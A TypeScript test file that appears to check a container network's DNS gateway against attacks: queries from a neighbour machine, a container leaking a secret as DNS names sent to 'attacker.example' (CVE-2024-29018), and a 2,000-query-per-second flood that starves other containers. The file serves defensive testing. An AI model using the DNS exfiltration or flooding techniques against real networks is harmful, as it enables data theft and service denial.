import { DnsFlood, lookUp } from '../../rig/dns-load.ts';
import { DnsStage } from '../../rig/dns-stage.ts';
import { type Attack, attackGroup, type Outcome } from './attack.ts';

/** What a neighbour, a container that is to have no way out, and a greedy one try with DNS. */

/** Another machine, which routes our subnets to the host, asks a network's gateway over UDP and TCP. */
function fromNeighbour(network: string, ...question: readonly string[]): Attack<DnsStage> {
  const ask = async (stage: DnsStage): Promise<Outcome> => {
    const gateway = `@${await stage.gateway(network)}`;
    const rcodes = await Promise.all(
      [[], ['+tcp']].map((words) => stage.dig(stage.neighbour.path, gateway, ...question, ...words)),
    );
    return { succeeded: rcodes.includes('NOERROR'), seen: rcodes.join(', ') };
  };
  return {
    name: `a neighbour asks the gateway of ${network}: ${question.join(' ')}`,
    attempt: ask,
    async control(stage) {
      await stage.dropRule();
      await stage.hideNeighbour();
      const outcome = await ask(stage);
      await stage.showNeighbour();
      return outcome;
    },
  };
}

/** What comes out at the attacker's server of what a container asks itself and has asked on its behalf. */
async function exfiltrate(stage: DnsStage, label: string): Promise<Outcome> {
  const inside = await stage.namespaceOf('in-inner');
  const gateway = `@${await stage.gateway('inner')}`;
  const onBehalf = `+subnet=${await stage.address('in-inner', 'inner')}/32`;
  const name = `${label}.attacker.example`;
  const rcodes = await Promise.all([
    ...['A', 'AAAA', 'TXT', 'CAA'].map((type) => stage.dig(inside, gateway, name, type)),
    stage.dig(inside, gateway, name, '+tcp'),
    stage.dig(stage.host.path, '@127.0.0.1', '-p', '5354', onBehalf, name),
    stage.daemon.run('fairlead', 'probe', 'in-inner', name),
  ]);
  const leaked = stage.upstream.askedFor(name).length;
  return { succeeded: leaked > 0, seen: `${leaked} of ${rcodes.length} questions leaked` };
}

const exfiltration: Attack<DnsStage> = {
  name: 'a container on an internal network sends a secret as a name (CVE-2024-29018)',
  attempt: (stage) => exfiltrate(stage, 'secret'),
  async control(stage) {
    await stage.daemon.ok('network', 'connect', 'open', 'in-inner');
    return await exfiltrate(stage, 'control');
  },
};

/** How many of a container's own and forwarded lookups fail while another one asks all it can. */
async function starve(stage: DnsStage, victim: string): Promise<Outcome> {
  const server = await stage.gateway('open');
  const flooder = await stage.namespaceOf('in-open');
  await using _flood = await DnsFlood.start(flooder, server, { rate: 2000, idle: 300 });
  const found = await lookUp(await stage.namespaceOf(victim), server, 25, 'in-open', '*.example.test');
  const failed = found.flatMap((one) => one.failed);
  return { succeeded: failed.length > 0, seen: `${failed.length} of 100 lookups failed` };
}

const starvation: Attack<DnsStage> = {
  name: 'a container asks 2,000 open questions a second and holds 300 connections',
  async attempt(stage) {
    await stage.daemon.ok('run', '-d', '--name', 'victim', '--net', 'open', 'web');
    return await starve(stage, 'victim');
  },
  // Whoever shares the flooder's limits: itself.
  control: (stage) => starve(stage, 'in-open'),
};

export const dnsAttacks = attackGroup('DNS', DnsStage.open, [
  fromNeighbour('open', 'in-open'),
  fromNeighbour('open', '-x', '172.18.0.2'),
  fromNeighbour('open', 'www.example.test'),
  fromNeighbour('inner', 'in-inner'),
  fromNeighbour('over', 'in-over.over'),
  exfiltration,
  starvation,
]);
